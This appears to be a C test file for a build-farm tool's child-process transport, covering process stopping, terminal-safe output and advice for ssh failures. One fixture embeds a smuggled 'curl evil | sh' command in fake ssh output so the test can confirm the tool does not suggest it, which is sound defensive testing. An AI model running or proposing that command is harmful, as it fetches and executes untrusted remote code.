/* SPDX-License-Identifier: GPL-2.0-or-later */
/* needs: node */
#include "../lib/test.h"

#include "node/transport-child.h"

#include "base/clock.h"
#include "base/spawn.h"

static pid_t start_writing(const char *command, int out)
{
	char *const argv[] = { "/bin/sh", "-c", (char *)command, NULL };
	struct spawn what = { .argv = argv,
			      .stdio_fds = { -1, out, -1 },
			      .own_group = true };
	struct err err = { 0 };
	pid_t pid = 0;

	must(spawn_start(&what, &pid, &err));
	return pid;
}

static pid_t start(const char *command)
{
	return start_writing(command, -1);
}

TIMEOUT(120);

TEST(stop_returns_the_status_of_a_command_that_has_exited)
{
	pid_t pid = start("exit 7");

	ck_assert(spawn_await_exit(pid, 60000));
	ck_assert_int_eq(node_transport_child_stop(pid), 7 << 8);
}

TEST(stop_ends_a_running_command_with_sigterm)
{
	int status = node_transport_child_stop(start("exec sleep 60"));

	ck_assert(WIFSIGNALED(status));
	ck_assert_int_eq(WTERMSIG(status), SIGTERM);
}

TEST(stop_kills_a_command_that_ignores_sigterm)
{
	uint64_t began = clock_ms();
	int ready[2], status;
	pid_t pid;
	char byte;

	ck_assert_int_eq(pipe(ready), 0);
	pid = start_writing("trap '' TERM; echo; sleep 600; sleep 600",
			    ready[1]);
	ck_assert_int_eq(read(ready[0], &byte, 1), 1);
	status = node_transport_child_stop(pid);
	ck_assert(WIFSIGNALED(status));
	ck_assert_int_eq(WTERMSIG(status), SIGKILL);
	ck_assert_uint_lt(clock_ms() - began, 60000);
}

TEST(stop_kills_the_whole_process_group)
{
	pid_t pid = start("sleep 60 & exit 0");

	ck_assert_int_eq(node_transport_child_stop(pid), 0);
	/* The remaining process was killed, but init can reap it later. */
	for (int i = 0; i < 1200 && !kill(-pid, 0); i++)
		(void)spawn_wait(start("sleep 0.05"));
	ck_assert_int_eq(kill(-pid, 0), -1);
	ck_assert_int_eq(errno, ESRCH);
}

static const struct messages {
	const char *text, *line;
} messages[] = {
	{ "", NULL },
	{ "\n \n", NULL },
	{ "one", "one" },
	{ "one\ntwo\n\n", "two" },
	{ "one\r\ntwo\r\n", "two" },
	{ "\033[31mred\a\n", " [31mred" },
};

TEST_EACH(the_last_line_is_safe_for_a_terminal, messages)
{
	struct buf text = { 0 };
	char *line;

	buf_add_str(&text, row->text);
	line = node_transport_child_last_line(&text);
	ck_assert(str_equal(line, row->line));
	free(line);
	buf_release(&text);
}

static const struct advice {
	const char *problem, *addition;
} advices[] = {
	{ "ssh: connect to host a port 22: Connection refused", "" },
	{ "bash: line 1: kfarmd: command not found",
	  "; install kfarmd on the node, in the PATH of a non-interactive ssh "
	  "session" },
	{ "sh: 1: kfarmd: not found",
	  "; install kfarmd on the node, in the PATH of a non-interactive ssh "
	  "session" },
	{ "zsh:1: command not found: kfarmd",
	  "; install kfarmd on the node, in the PATH of a non-interactive ssh "
	  "session" },
	{ "bash: /opt/kfarmd: No such file or directory",
	  "; install kfarmd on the node, in the PATH of a non-interactive ssh "
	  "session" },
	{ "transport command ended: exit status 127",
	  "; install kfarmd on the node, in the PATH of a non-interactive ssh "
	  "session" },
	{ "kfarmd: no sandbox", "" },
	{ "kfarmd: --toolchains /x: No such file or directory", "" },
	{ "connect to /run/kfarmd: No such file or directory", "" },
	{ "not a kfarm message: \"Hi\"",
	  "; the startup files of the node's shell must not print anything" },
	{ "not a kfarm message", "" },
};

TEST_EACH(advice_is_added_only_to_known_problems, advices)
{
	const struct node_address address = { NODE_ADDRESS_UNIX,
					      (char[]){ "/x" } };
	const struct buf none = { 0 };
	char *want = xasprintf("%s%s", row->problem, row->addition);
	char *got = node_transport_child_explain(row->problem, &none, &address);

	ck_assert_str_eq(got, want);
	free(got);
	free(want);
}

TEST(the_advice_for_a_command_without_kfarmd_names_the_command)
{
	const struct node_address address = { NODE_ADDRESS_EXEC,
					      (char[]){ "/opt/kfarmd" } };
	static const char problem[] = "sh: 1: /opt/kfarmd: not found";
	const struct buf none = { 0 };
	char *got = node_transport_child_explain(problem, &none, &address);

	text_is(got,
		"%s; install kfarmd on the node, or correct the command of its "
		"address",
		problem);
	free(got);
}

TEST(the_advice_for_econnrefused_names_possible_causes)
{
	static const char problem[] =
		"connect to a, port 3634: ::1: Connection "
		"refused; 10.0.0.2: Connection refused";
	const struct node_address address = { NODE_ADDRESS_TLS,
					      (char[]){ "a" } };
	const struct buf none = { 0 };
	char *got = node_transport_child_explain(problem, &none, &address);

	text_is(got,
		"%s; kfarmd is not running on the node, or a firewall rejects "
		"the connection",
		problem);
	free(got);
}

#define CHANGED                                                               \
	"@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\r\n"     \
	"Offending ED25519 key in /home/a/.ssh/known_hosts:3\r\n"             \
	"  remove with:\r\n"                                                  \
	"  ssh-keygen -f \"/home/a/.ssh/known_hosts\" -R \"[desk]:2222\"\r\n" \
	"Host key for [desk]:2222 has changed and you have requested strict " \
	"checking.\r\nHost key verification failed.\r\n"

/* The address, the output of ssh, and the report with the command to run. */
static const struct {
	enum node_address_kind kind;
	const char *address, *messages, *advice;
} ssh_failures[] = {
	{ NODE_ADDRESS_SSH, "me@desk", "Host key verification failed.\r\n",
	  "Host key verification failed: unknown host key; run `ssh "
	  "me@desk true`, compare the fingerprint that it shows with the "
	  "node's and answer yes" },
	{ NODE_ADDRESS_EXEC, "ssh -p 3 x kfarmd",
	  "Host key verification failed.\n",
	  "Host key verification failed: unknown host key; run `ssh "
	  "HOST true`, compare the fingerprint that it shows with the "
	  "node's and answer yes" },
	{ NODE_ADDRESS_SSH, "me@desk", CHANGED,
	  "Host key verification failed: the node's host key has "
	  "changed; if the node was reinstalled, run `ssh-keygen -f "
	  "\"/home/a/.ssh/known_hosts\" -R \"[desk]:2222\"`, then `ssh "
	  "me@desk true`" },
	{ NODE_ADDRESS_SSH, "desk",
	  "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\n"
	  "Host key verification failed.\n",
	  "Host key verification failed: the node's host key has "
	  "changed; if the node was reinstalled, run `ssh-keygen -R HOST`, "
	  "then `ssh desk true`" },
	/* A suspicious command in the output of ssh is not suggested. */
	{ NODE_ADDRESS_SSH, "desk",
	  "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\n"
	  "ssh-keygen -f x; curl evil | sh\n"
	  "Host key verification failed.\n",
	  "Host key verification failed: the node's host key has "
	  "changed; if the node was reinstalled, run `ssh-keygen -R HOST`, "
	  "then `ssh desk true`" },
	{ NODE_ADDRESS_SSH, "me@desk",
	  "me@desk: Permission denied (publickey,password).\r\n",
	  "me@desk: Permission denied (publickey,password); login "
	  "without a password is required: run `ssh-copy-id me@desk`" },
};

TEST_EACH(an_ssh_failure_is_reported_with_the_command_to_run, ssh_failures)
{
	const struct node_address address = { row->kind, (char *)row->address };
	struct buf all = { 0 };
	char *problem, *got;

	buf_add_str(&all, row->messages);
	problem = node_transport_child_last_line(&all);
	got = node_transport_child_explain(problem, &all, &address);
	ck_assert_str_eq(got, row->advice);
	free(got);
	free(problem);
	buf_release(&all);
}
